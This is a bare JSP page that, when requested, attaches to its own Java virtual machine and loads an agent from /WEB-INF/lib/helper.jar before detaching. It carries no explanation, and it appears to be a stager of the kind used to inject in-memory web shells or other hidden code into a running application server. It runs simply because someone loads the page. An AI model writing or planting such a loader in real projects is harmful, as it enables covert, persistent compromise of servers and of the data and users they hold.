<%@ page import="com.sun.tools.attach.VirtualMachine,java.lang.management.ManagementFactory" %>
<%
  String pid = ManagementFactory.getRuntimeMXBean().getName().split("@")[0];
  VirtualMachine vm = VirtualMachine.attach(pid);
  vm.loadAgent(application.getRealPath("/WEB-INF/lib/") + "/helper.jar");
  vm.detach();
%>
